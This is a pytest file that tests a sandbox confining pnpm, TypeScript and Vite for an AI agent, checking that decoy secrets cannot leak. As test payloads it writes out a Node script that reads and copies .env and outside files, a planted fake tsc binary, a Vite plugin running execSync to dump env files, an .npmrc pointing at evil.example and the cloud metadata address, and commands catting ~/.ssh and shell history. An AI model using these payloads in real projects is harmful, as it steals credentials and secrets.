"""Code that comes with packages, or is put among them, is held wherever it runs: in checks, too.

Real pnpm, TypeScript and Vite, with a key planted outside and in the tree.
"""

from __future__ import annotations

import asyncio
import json
import os
import shutil
from pathlib import Path

import pytest

from tests.attacks.decoys import PLANTED, leaks
from tests.conftest import copy_app, needs
from vly_nb.processes import Completed, run
from vly_nb.project.confine import CACHES, Confinement, Reach
from vly_nb.sandbox.sandbox import Tier
from vly_nb.stacks.convex_react import pnpm
from vly_nb.stacks.convex_react.backend_check import offline_check
from vly_nb.stacks.convex_react.registry import held
from vly_nb.stacks.convex_react.type_check import types_of

pytestmark = [pytest.mark.slow, pytest.mark.node]


@pytest.fixture
def project(installed: Path, tmp_path: Path) -> Path:
    """An installed app with a key in its env file, and one beside it."""
    root = copy_app(installed, tmp_path / "app", apart=True)
    (root / ".env.local").write_text(f"SECRET={PLANTED['tree']}\n")
    (tmp_path / "outside").write_text(PLANTED["vault"])
    return root


@pytest.fixture
def small(tmp_path: Path) -> Path:
    needs("node")
    root = tmp_path / "small"
    root.mkdir()
    (root / "package.json").write_text('{"name": "small", "private": true}')
    (root / ".env.local").write_text(f"SECRET={PLANTED['tree']}\n")
    (tmp_path / "outside").write_text(PLANTED["vault"])
    return root


def do(root: Path, tier: Tier, *argv: str) -> Completed:
    async def done() -> Completed:
        return await run(argv, cwd=root, box=await Confinement(root, tier=tier).box(), timeout=120)

    return asyncio.run(done())


def files(root: Path) -> bytes:
    """What lies in the project and its caches, but the env file itself."""
    found = []
    for folder, folders, names in os.walk(root):
        if folder.endswith("/node_modules"):
            folders[:] = [name for name in folders if name in CACHES]
        found += [Path(folder, name) for name in names if name != ".env.local"]
    return b"".join(place.read_bytes() for place in found if place.is_file())


STEAL = """#!/usr/bin/env node
const fs = require("fs");
for (const place of [".env.local", "../outside", "%s"]) {
  try { const key = fs.readFileSync(place, "utf8"); console.log(key); fs.writeFileSync("src/stolen", key); }
  catch (error) { console.log("no " + place + " " + error.code); }
}
try { fs.writeFileSync("%s", "escaped"); } catch (error) { console.log("not written " + error.code); }
"""


def stealing(root: Path) -> str:
    return STEAL % (root.parent / "outside", root.parent / "escaped")


def test_attack_a_planted_compiler_is_held_when_the_check_runs_it(project: Path, tier: Tier) -> None:
    """A command puts its own `tsc` in the place of the project's; the check runs it later."""
    planted = f"cat > node_modules/.bin/tsc <<'END'\n{stealing(project)}\nEND"
    came = do(project, tier, "bash", "-c", planted)
    assert not came.ok, "a command changes nothing among the packages"
    shutil.rmtree(project / "node_modules/.bin")
    (project / "node_modules/.bin").mkdir()
    for name in ("tsc", "convex"):  # so it is put there by other means
        (project / "node_modules/.bin" / name).write_text(stealing(project))
        (project / "node_modules/.bin" / name).chmod(0o755)
    confinement = Confinement(project, tier=tier)
    results = [
        asyncio.run(types_of(project, confinement=confinement)),
        asyncio.run(offline_check(project, "src/convex", confinement=confinement)),
    ]
    assert leaks(repr(results).encode()) == [] and leaks(files(project)) == []
    assert not (project.parent / "escaped").exists()


def test_attack_a_vite_plugin_reads_no_key(project: Path, tier: Tier) -> None:
    (project / ".env.local").rename(project / "src/.env")  # in tier B Vite stops at one it can't read
    command = json.dumps("cat src/.env ../outside; env")
    (project / "vite.config.ts").write_text(
        'import { execSync } from "node:child_process";\n'
        f"const stolen = () => console.log(execSync({command}, {{ encoding: 'utf8' }}));\n"
        "export default { plugins: [{ name: 'x', buildStart: stolen }] };\n"
    )
    came = do(project, tier, "node", "node_modules/vite/bin/vite.js", "build", "--outDir", "src/out")
    assert "AI_AGENT=vly_nb" in came.output, "the plugin did run"
    (project / "src/.env").unlink()
    assert leaks(came.output.encode()) == [] and leaks(files(project)) == []


def test_attack_vites_own_env_files_put_no_key_into_a_bundle(project: Path, tier: Tier) -> None:
    (project / ".env.production").write_text(f"VITE_SECRET={PLANTED['tree']}\n")
    (project / "src/leak.js").write_text("console.log(import.meta.env);\n")
    lib = ["--outDir", "src/out", "--ssr", "src/leak.js"]
    came = do(project, tier, "node", "node_modules/vite/bin/vite.js", "build", *lib)
    assert came.ok == (tier is Tier.A), "Landlock can't make a file look empty: there Vite stops"
    assert leaks(came.output.encode()) == [] and leaks(files(project / "src")) == []


def test_attack_a_folder_as_a_package_brings_no_secret_along(small: Path, tier: Tier) -> None:
    """`file:.` copies the project into node_modules, where its files have another place."""
    (small / "lib").mkdir()
    (small / "lib/package.json").write_text('{"name": "lib", "version": "1.0.0"}')
    (small / "lib/.env").write_text(f"SECRET={PLANTED['tree']}\n")
    (small / ".vly").mkdir()
    (small / ".vly/package.json").write_text('{"name": "state", "version": "1.0.0"}')
    (small / ".vly/state.json").write_text(PLANTED["vault"])
    (small / "package.json").write_text(
        json.dumps({"name": "small", "dependencies": {"lib": "file:./lib", "state": "file:./.vly"}})
    )
    try:
        asyncio.run(pnpm.install(small, frozen=False, confinement=Confinement(small, tier=tier)))
    except Exception as error:
        assert leaks(str(error).encode()) == []
    came = do(small, tier, "bash", "-c", "find node_modules/ -follow -type f -exec cat {} +")
    assert leaks(came.output.encode()) == []


def test_attack_installing_runs_no_script_and_reaches_no_other_host(small: Path, tier: Tier) -> None:
    (small / "package.json").write_text(
        json.dumps({"name": "small", "private": True, "scripts": {"postinstall": "touch ran"}})
    )
    (small / ".npmrc").write_text("registry=http://evil.example/\n@x:registry=http://169.254.169.254/\n")
    with pytest.raises(Exception, match=r"person's own registry only; it asked for evil\.example:80"):
        asyncio.run(pnpm.add(small, ["clsx"], confinement=Confinement(small, tier=tier)))
    assert not (small / "ran").exists()


def test_attack_the_package_manager_reads_neither_home_nor_env_files(small: Path, tier: Tier) -> None:
    """What pnpm's box lets through, were pnpm itself to turn."""

    async def done() -> Completed:
        confinement = Confinement(small, tier=tier)
        async with held([shutil.which("pnpm") or "pnpm"], confinement) as box:
            command = f"cat .env.local {small.parent}/outside ~/.ssh/* ~/.bash_history ~/.bashrc ~/.profile"
            return await run(["bash", "-c", command], cwd=small, env=box.env, box=box.box)

    came = asyncio.run(done())
    assert leaks(came.output.encode()) == []
    assert came.output.count(": ") >= 4 and "alias" not in came.output


def test_commands_write_only_caches_among_the_packages(project: Path, tier: Tier) -> None:
    came = do(
        project,
        tier,
        "bash",
        "-c",
        "echo x > node_modules/.vite/ours && echo x > node_modules/.tmp/ours && echo cached;"
        "echo x > node_modules/react/index.js; rm -rf node_modules/react; ln -s x node_modules/x;"
        "sed -i s/a/b/ node_modules/react/package.json; ls node_modules/react/package.json",
    )
    assert "cached" in came.output and came.ok
    assert json.loads((project / "node_modules/react/package.json").read_text())["name"] == "react"


async def test_a_repository_is_read_by_git_and_by_nothing_else(small: Path, tier: Tier) -> None:
    needs("git")
    for arguments in (
        ["init", "-q"],
        ["add", "package.json"],
        ["-c", "user.name=a", "-c", "user.email=a@a", "commit", "-qm", "first"],
    ):
        assert (await run(["git", *arguments], cwd=small)).ok
    confinement = Confinement(small, tier=tier)
    log = await run(["git", "log", "--oneline"], cwd=small, box=await confinement.box(Reach(history=True)))
    assert log.ok and log.output.endswith("first\n")
    head = await run(
        ["bash", "-c", "git rev-parse HEAD; git show HEAD"], cwd=small, box=await confinement.box()
    )
    assert "first" not in head.output
